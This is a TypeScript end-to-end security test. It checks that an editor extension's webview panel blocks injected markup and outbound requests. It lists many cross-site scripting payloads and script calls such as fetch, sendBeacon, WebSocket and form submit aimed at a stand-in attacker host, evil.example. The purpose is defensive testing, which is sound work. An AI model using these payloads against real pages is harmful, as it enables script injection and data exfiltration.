/**
 * Attempts to break out of the panel's page: texts that are markup, and, as if one of them had
 * become markup, every way that a page has to run a script or to ask another machine.
 */
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { noBrowser } from '../browser';
import { panelOpener } from './openPanel';
import { card, picture, readSymbol, square, state } from './states';

const EVIL = 'https://evil.example';

const TRAPS = [
  `"><script>window.caught = 1</script>`,
  `</script><script src=${EVIL}/a.js></script>`,
  `<img src=${EVIL}/a.png onerror="window.caught = 2">`,
  `<svg onload="window.caught = 3"><image href="${EVIL}/a.svg"/></svg>`,
  `<style>@import url(${EVIL}/a.css); * { background: url(${EVIL}/b.png) }</style>`,
  `<base href="${EVIL}/"><form action="${EVIL}/"><button autofocus>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<link rel="prefetch" href="${EVIL}/a"><link rel="dns-prefetch" href="${EVIL}">`,
  `<iframe srcdoc="<script>parent.caught = 4</script>"></iframe>`,
  `javascript:window.caught=5//`,
  `![p](${EVIL}/p.png) [r](command:workbench.action.quit)`,
  `{{constructor.constructor('window.caught = 6')()}} \${window.caught = 7}`,
  '\u202e<img src=x onerror=window.caught=8>\u0000',
];

/** What a script in the page could try; each is as markup or as a call. */
const MARKUP = [
  // Where a page may not go VS Code says, in which test/e2e/untrusted.e2e.ts tries it.
  ...TRAPS.filter((trap) => !trap.includes('refresh')),
  `<video src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<div style="background: url(${EVIL}/style.png)">x</div>`,
  `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="preload" as="image" href="${EVIL}/p.png">`,
  `<input type="image" src="${EVIL}/i.png"><picture><source srcset="${EVIL}/set.png"><img></picture>`,
];
/** As text, compiled in the page after the attempt to inject it has returned. */
const CALLS = [
  `fetch('${EVIL}/f', { mode: 'no-cors' }).catch(() => {})`,
  `navigator.sendBeacon('${EVIL}/b', 'x')`,
  `new WebSocket('wss://evil.example/')`,
  `new EventSource('${EVIL}/e')`,
  `{ const r = new XMLHttpRequest(); r.open('GET', '${EVIL}/x'); r.send(); }`,
  `new Image().src = '${EVIL}/i.png'`,
  `import('${EVIL}/m.js').catch(() => {})`,
  `new Worker('${EVIL}/w.js')`,
  `new Worker('data:text/javascript,fetch("${EVIL}/data")')`,
  `new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/blob")'])))`,
  `new FontFace('f', 'url(${EVIL}/f.woff2)').load().catch(() => {})`,
  `setTimeout('window.caught = 9')`,
  `document.body.setAttribute('onclick', 'window.caught = 10'), document.body.click()`,
  `document.head.append(Object.assign(document.createElement('script'), { text: 'window.caught = 11' }))`,
  `document.head.append(Object.assign(document.createElement('script'), { src: '${EVIL}/s.js' }))`,
  `document.body.append(Object.assign(document.createElement('a'), { href: 'javascript:window.caught=12', id: 'js' })), document.getElementById('js').click()`,
  `document.body.append(Object.assign(document.createElement('form'), { action: '${EVIL}/form', id: 'f' })), document.getElementById('f').submit()`,
];

const ATTEMPTS = [...MARKUP.map((text) => ['markup', text] as const), ...CALLS.map((text) => ['call', text] as const)];
const UNGUARDED = 'https://unguarded.test/';
/** Waits for a click or for what renders it, or is refused on any page. */
const isStaying = (text: string): boolean =>
  ['<base ', 'javascript:', '![p]', '{{constructor', `new Worker('${EVIL}`].some((start) => text.startsWith(start));

describe.skipIf(noBrowser)('out of the panel', () => {
  const open = panelOpener();

  const caught = (page: Page) => page.evaluate(() => (window as { caught?: number }).caught);
  /** Requests that leave the page for the other machine; the security policy stops others. */
  async function listen(page: Page): Promise<string[]> {
    const asked: string[] = [];
    await page.route(`${EVIL}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.caught = 99' });
    });
    // No route sees these.
    page.removeAllListeners('websocket');
    page.on('websocket', (socket) => asked.push(socket.url()));
    return asked;
  }
  const attempt = async (page: Page, sort: string, text: string) => {
    if (sort === 'markup')
      await page.evaluate((html) => document.body.append(document.createRange().createContextualFragment(html)), text);
    else await page.evaluate(text).catch(() => undefined);
  };

  it('no text of a symbol, a picture or an error leads', async () => {
    const panel = await open(
      state({
        symbols: TRAPS.map((trap) => card(trap)),
        pictures: TRAPS.map((trap) => picture([readSymbol(trap, square(1, 1, 9))], { name: trap })),
      }),
    );
    const { page } = panel;
    const asked = await listen(page);
    expect(await page.locator('.text-content').allTextContents()).toEqual(expect.arrayContaining([TRAPS[0]]));
    await page.locator('[role="tab"]').nth(1).click();
    expect([asked, await caught(page), panel.errors]).toEqual([[], undefined, []]);
    const links = await page.locator('a[href], form, iframe, base').count();
    expect(links).toBe(0);
  });

  it.each(ATTEMPTS)('no %s leads that got into the page: %s', async (sort, text) => {
    const { page } = await open(state({ symbols: [card('x')] }));
    const asked = await listen(page);
    await attempt(page, sort, text);
    await page.evaluate(() => new Promise((done) => setTimeout(done, 50)));
    expect([asked, await caught(page)]).toEqual([[], undefined]);
  });

  it('every one of them leads out of a page that has no such policy', async () => {
    const { page } = await open(state());
    const asked = await listen(page);
    await page.route(UNGUARDED, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><body>' }));
    const stayed: string[] = [];
    for (const [sort, text] of ATTEMPTS) {
      await page.goto(UNGUARDED);
      asked.length = 0;
      await attempt(page, sort, text);
      // A page that is just leaving answers nothing.
      const hasLed = async () => asked.length > 0 || (await caught(page).catch(() => undefined)) !== undefined;
      const most = isStaying(text) ? 20 : 200;
      for (let tries = 0; tries < most && !(await hasLed()); tries++) await page.waitForTimeout(25);
      if (!(await hasLed())) stayed.push(text);
    }
    expect(stayed).toEqual(ATTEMPTS.map(([, text]) => text).filter(isStaying));
  });
});
